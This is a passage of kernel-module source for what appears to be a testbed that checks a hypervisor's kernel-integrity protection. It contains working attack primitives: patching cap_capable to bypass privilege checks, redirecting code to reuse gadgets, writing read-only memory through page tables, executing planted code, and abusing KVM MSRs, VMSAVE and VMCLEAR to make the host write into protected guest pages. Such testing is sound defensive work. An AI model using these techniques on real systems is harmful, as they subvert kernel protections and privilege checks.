		say(a, "no_untraced_cap_capable_or_return0");
		return;
	}
	rel32_insn(jmp, 0xe9, site, ret0);
	patch_and_judge(a, site, jmp, 5);
}

/*
 * A static-call trampoline sent into the middle of a function (a
 * code-reuse gadget, not a function entry): __SCT__x86_pmu_drain_pebs,
 * which nothing calls without a PEBS-capable PMU.
 */
static void heki_atk_patch_tramp_gadget(struct atk *a)
{
	u8 *tramp = (u8 *)atk_kallsyms("__SCT__x86_pmu_drain_pebs");
	unsigned long fn = atk_kallsyms("cap_capable");
	u8 jmp[5];

	if (!tramp || !fn) {
		a->effect = -1;
		say(a, "no_trampoline_or_cap_capable");
		return;
	}
	rel32_insn(jmp, 0xe9, tramp, fn + 7);
	patch_and_judge(a, tramp, jmp, 5);
}

/*
 * A kprobe's INT3 written into the middle of an instruction: an immediate
 * or a displacement changes and nothing ever traps ("jne +10" becomes
 * "jne -52").  The place: the second byte of the first multi-byte
 * instruction after sysrq_handle_crash()'s ftrace site (the kernel's own
 * decoder finds it), a function nothing runs.
 */
static void heki_atk_patch_int3_mid_insn(struct atk *a)
{
	int (*decode)(struct insn *insn, const void *kaddr, int buf_len,
		      enum insn_mode m) = (void *)atk_kallsyms("insn_decode");
	u8 *p = untraced_ftrace_site("sysrq_handle_crash"), *end, int3 = 0xcc;
	struct insn insn;

	if (!decode || !p) {
		a->effect = -1;
		say(a, "no_decoder_or_untraced_sysrq_handle_crash");
		return;
	}
	for (p += 5, end = p + 64; p < end; p += insn.length)
		if (decode(&insn, p, MAX_INSN_SIZE, INSN_MODE_64) < 0 ||
		    !insn.length || insn.length > 1)
			break;
	if (p >= end || decode(&insn, p, MAX_INSN_SIZE, INSN_MODE_64) < 0 ||
	    insn.length < 2) {
		a->effect = -1;
		say(a, "no_multibyte_instruction_found");
		return;
	}
	say(a, "insn=%*ph", insn.length, p);
	patch_and_judge(a, p + 1, &int3, 1);
}

/*
 * Two pages of this module's rodata for the attacks in which KVM writes
 * guest memory on the guest's behalf (PV MSR areas, nested SVM state):
 * read-only to the guest and restricted at the host, so only a KVM write
 * that skips the second-stage permissions changes them.  Each attack has
 * its own slot, judged against a snapshot; nothing reads the slots, so a
 * write that landed is left there.
 */
static const u8 heki_atk_kvm_target[2 * PAGE_SIZE] __aligned(PAGE_SIZE) = {
	[0 ... 2 * PAGE_SIZE - 1] = 0x5a
};

#define KVM_SLOT_VMCLEAR	0	/* VMCLEAR's frame: launch state at KVM's offset */
#define KVM_SLOT_VMCLEAR_LEN	0x100
#define KVM_SLOT_WALL_CLOCK	0x100	/* struct pvclock_wall_clock, 12 bytes */
#define KVM_SLOT_PVCLOCK	0x200	/* struct pvclock_vcpu_time_info, 32 bytes */
#define KVM_SLOT_STEAL_TIME	0x400	/* struct kvm_steal_time, 64 bytes, 64-aligned */
#define KVM_SLOT_VMSAVE		PAGE_SIZE	/* a whole page: VMSAVE's target */

/*
 * Points the PV MSR @msr at slot @off (@flags: its enable bit) and judges
 * whether KVM wrote there; the MSR gets its old value back.  KVM writes
 * wall clock at once, kvmclock and steal time on its way back into the
 * guest: either way before the next instruction here.
 */
static void pv_msr_write(struct atk *a, u32 msr, unsigned long off,
			 size_t len, u64 flags, bool restore)
{
	const u8 *slot = heki_atk_kvm_target + off;
	u64 pa = (u64)atk_pfn(slot) << PAGE_SHIFT | offset_in_page(slot), old = 0;
	u8 before[64];

	memcpy(before, slot, len);
	a->gfn = pa >> PAGE_SHIFT;
	preempt_disable();	/* the MSRs are this vCPU's */
	if (restore && rdmsrl_safe(msr, &old)) {
		preempt_enable();
		a->effect = -1;
		say(a, "msr_0x%x_not_readable", msr);
		return;
	}
	a->faulted = wrmsrl_safe(msr, pa | flags) != 0;
	a->effect = memcmp(slot, before, len) != 0;
	if (restore)
		wrmsrl_safe(msr, old);
	preempt_enable();
	say(a, "msr=0x%x old=0x%llx wrmsr_faulted=%d slot=0x%llx changed=%d",
	    msr, old, a->faulted, pa, a->effect);
}

static void heki_atk_kvm_wall_clock(struct atk *a)
{
	pv_msr_write(a, MSR_KVM_WALL_CLOCK_NEW, KVM_SLOT_WALL_CLOCK,
		     sizeof(struct pvclock_wall_clock), 0, false);
}

static void heki_atk_kvm_pvclock(struct atk *a)
{
	pv_msr_write(a, MSR_KVM_SYSTEM_TIME_NEW, KVM_SLOT_PVCLOCK,
		     sizeof(struct pvclock_vcpu_time_info), KVM_MSR_ENABLED, true);
}

static void heki_atk_kvm_steal_time(struct atk *a)
{
	pv_msr_write(a, MSR_KVM_STEAL_TIME, KVM_SLOT_STEAL_TIME,
		     sizeof(struct kvm_steal_time), KVM_MSR_ENABLED, true);
}

/*
 * VMSAVE with EFER.SVME set: the host (KVM emulating it, or the CPU with
 * virtual VMSAVE through the second stage) writes this vCPU's FS, GS, TR,
 * LDTR and syscall MSRs into the page the guest names.  SYSENTER_ESP
 * (unused by a 64-bit kernel) gets a new value for the moment, so each
 * VMSAVE writes something the page did not hold before.
 */
static void heki_atk_kvm_vmsave(struct atk *a)
{
	const u8 *slot = heki_atk_kvm_target + KVM_SLOT_VMSAVE;
	u64 pa = (u64)atk_pfn(slot) << PAGE_SHIFT, efer;
	u8 *before = kmalloc(PAGE_SIZE, GFP_KERNEL);

	if (!before || !boot_cpu_has(X86_FEATURE_SVM)) {
		a->effect = -1;
		say(a, "%s", before ? "no_svm_in_guest_cpuid" : "no_memory");
		kfree(before);
		return;
	}
	memcpy(before, slot, PAGE_SIZE);
	a->gfn = pa >> PAGE_SHIFT;
	preempt_disable();
	rdmsrl(MSR_EFER, efer);
	if (wrmsrl_safe(MSR_EFER, efer | EFER_SVME)) {
		a->effect = -1;
		say(a, "efer_svme_refused");
	} else {
		static u32 nonce;
		u64 esp;

		rdmsrl(MSR_IA32_SYSENTER_ESP, esp);
		wrmsrl(MSR_IA32_SYSENTER_ESP, esp ^ ((u64)++nonce << 4));
		a->faulted = heki_atk_vmsave(pa);
		wrmsrl(MSR_IA32_SYSENTER_ESP, esp);
		wrmsrl(MSR_EFER, efer);
		a->effect = memcmp(slot, before, PAGE_SIZE) != 0;
		say(a, "vmsave_faulted=%d slot=0x%llx changed=%d", a->faulted, pa, a->effect);
	}
	preempt_enable();
	kfree(before);
}

/*
 * The VMX counterpart of VMSAVE: with nested VMX, VMCLEAR of a frame makes
 * the host (KVM emulating it) write that VMCS's launch state into the
 * frame, kvm_vcpu_write_guest() at vmcs12's offset, whatever the frame is.
 * VMXON first (a region of our own), VMXOFF after; CR4.VMXE for the moment.
 */
static void heki_atk_kvm_vmclear(struct atk *a)
{
	const u8 *slot = heki_atk_kvm_target + KVM_SLOT_VMCLEAR;
	u8 before[KVM_SLOT_VMCLEAR_LEN];
	unsigned long region = __get_free_page(GFP_KERNEL | __GFP_ZERO), flags;
	u64 pas[2], basic, fc;
	int r;

	if (!region || !boot_cpu_has(X86_FEATURE_VMX)) {
		a->effect = -1;
		say(a, "%s", region ? "no_vmx_in_guest_cpuid" : "no_memory");
		free_page(region);
		return;
	}
	if (rdmsrl_safe(MSR_IA32_VMX_BASIC, &basic) ||
	    rdmsrl_safe(MSR_IA32_FEAT_CTL, &fc) || !(fc & FEAT_CTL_LOCKED) ||
	    !(fc & FEAT_CTL_VMX_ENABLED_OUTSIDE_SMX)) {
		a->effect = -1;
		say(a, "vmxon_not_allowed feature_control=0x%llx", fc);
		free_page(region);
		return;
	}
	*(u32 *)region = (u32)basic & 0x7fffffff;	/* the VMCS revision */
	pas[0] = __pa(region);
	pas[1] = (u64)atk_pfn(slot) << PAGE_SHIFT;
	a->gfn = pas[1] >> PAGE_SHIFT;
	memcpy(before, slot, sizeof(before));
	local_irq_save(flags);	/* VMX operation is this vCPU's */
	cr4_set_bits_irqsoff(X86_CR4_VMXE);
	r = heki_atk_vmxon_vmclear(pas);
	cr4_clear_bits_irqsoff(X86_CR4_VMXE);
	local_irq_restore(flags);
	free_page(region);
	if (r == 2) {
		a->effect = -1;
		say(a, "vmxon_failed");
		return;
	}
	a->faulted = r == 1;
	a->effect = memcmp(slot, before, sizeof(before)) != 0;
	say(a, "vmx=%d slot=0x%llx changed=%d", r, pas[1], a->effect);
}

static const u64 heki_atk_rodata = 0xAA55AA55AA55AA55ull;
static u64 heki_atk_ro_after_init __ro_after_init = 0x55AA5500;

static void heki_atk_lkdtm_write_kern(struct atk *a)
{
	write_via_pte(a, (void *)heki_atk_do_overwritten);
}

static void heki_atk_lkdtm_write_ro(struct atk *a)
{
	write_via_pte(a, (void *)&heki_atk_rodata);
}

static void heki_atk_lkdtm_write_ro_after_init(struct atk *a)
{
	write_via_pte(a, &heki_atk_ro_after_init);
}

static void heki_atk_lkdtm_exec_stack(struct atk *a)
{
	u8 buf[64] __aligned(16);

	exec_planted(a, buf, false);
	memzero_explicit(buf, sizeof(buf));
}

static void heki_atk_lkdtm_exec_vmalloc(struct atk *a)
{
	void *buf = vmalloc(PAGE_SIZE);

	if (!buf) {
		a->effect = -1;
		say(a, "vmalloc_failed");
		return;
	}
	exec_planted(a, buf, false);
	vfree(buf);
}

/* ------------------------------------------------------------- the table */

static const struct heki_attack_impl {
	const char *id;
	void (*run)(struct atk *a);
} attacks[] = {
#define IMPL(id, ...) { #id, heki_atk_##id },
	HEKI_ATTACKS(IMPL)
#undef IMPL
};

static long violations_now(void)
{
	struct heki_stats *st = kzalloc(sizeof(*st), GFP_KERNEL);
	long ret, v = -1;

	if (!st)
		return -1;
	ret = kvm_hypercall4(HEKI_HC_STATS, __pa(st), sizeof(*st), 0, 0);
	if (!ret)
		v = st->violations;
	kfree(st);
	return v;
}

/* ------------------------------------------------------------- debugfs */

#define RESULT_MAX 512

static int run_open(struct inode *inode, struct file *file)
{
	file->private_data = kzalloc(RESULT_MAX, GFP_KERNEL);
	return file->private_data ? 0 : -ENOMEM;
}

static int run_release(struct inode *inode, struct file *file)
{
	kfree(file->private_data);
	return 0;
}

static ssize_t run_write(struct file *file, const char __user *ubuf, size_t len,
			 loff_t *ppos)
{
	char id[64], evidence[80] = "";
	struct atk *a;
	long v0, v1;
	size_t i;

	if (len >= sizeof(id))
		return -EINVAL;
	if (copy_from_user(id, ubuf, len))
		return -EFAULT;
	id[len] = '\0';
	strim(id);
	/* The harness's fault injection: a guest that dies mid-attack. */
	if (!strcmp(id, "crash_guest"))
		panic("heki_attack: crash_guest requested by the harness (fault attack-kills-guest)\n");
	for (i = 0; i < ARRAY_SIZE(attacks); i++)
		if (!strcmp(id, attacks[i].id))
			break;
	if (i == ARRAY_SIZE(attacks))
		return -ENOENT;
	a = kzalloc(sizeof(*a), GFP_KERNEL);
	if (!a)
		return -ENOMEM;
	pr_info("attack %s\n", id);
	a->landed = -1;
	v0 = violations_now();
	attacks[i].run(a);
	v1 = violations_now();
	if (a->what)
		scnprintf(evidence, sizeof(evidence), " what=%s object=0x%lx", a->what, a->object);
	if (a->bits)
		scnprintf(evidence + strlen(evidence), sizeof(evidence) - strlen(evidence),
			  " cr=%d bits=0x%lx", a->cr, a->bits);
	scnprintf(file->private_data, RESULT_MAX,
		  "id=%s effect=%d landed=%d faulted=%d violations=%ld vm_seq_before=%ld gfn=0x%lx rip=0x%lx%s detail=%s\n",
		  id, a->effect, a->landed < 0 ? a->effect : a->landed, a->faulted,
		  v0 < 0 || v1 < 0 ? -1 : v1 - v0, v0, a->gfn, a->rip, evidence,
		  strim(a->detail));
	pr_info("%s", (char *)file->private_data);
	kfree(a);
	return len;
}

static ssize_t run_read(struct file *file, char __user *ubuf, size_t len, loff_t *ppos)
{
	const char *r = file->private_data;

	return simple_read_from_buffer(ubuf, len, ppos, r, strlen(r));
}

static const struct file_operations run_fops = {
	.owner = THIS_MODULE,
	.open = run_open,
	.release = run_release,
	.write = run_write,
	.read = run_read,
	.llseek = default_llseek,
};

static int list_show(struct seq_file *m, void *unused)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(attacks); i++)
		seq_printf(m, "%s\n", attacks[i].id);
	return 0;
}
DEFINE_SHOW_ATTRIBUTE(list);

static struct dentry *dir;

static int __init heki_attack_init(void)
{
	int ret = find_kallsyms();

	if (ret) {
		pr_err("cannot resolve kallsyms_lookup_name: %d\n", ret);
		return ret;
	}
	atk_flush_tlb_kernel_range = (void *)atk_kallsyms("flush_tlb_kernel_range");
	if (!atk_flush_tlb_kernel_range) {
		pr_err("cannot resolve flush_tlb_kernel_range\n");
		return -ENOENT;
	}
	dir = debugfs_create_dir("heki_attack", NULL);
	debugfs_create_file("run", 0600, dir, NULL, &run_fops);
	debugfs_create_file("list", 0400, dir, NULL, &list_fops);
	pr_info("%zu attacks ready (the attacker of the inject suite)\n", ARRAY_SIZE(attacks));
	return 0;
}

static void __exit heki_attack_exit(void)
{
	debugfs_remove_recursive(dir);
}

module_init(heki_attack_init);
module_exit(heki_attack_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Heki testbed: simulated data-only attacks (inject suite)");
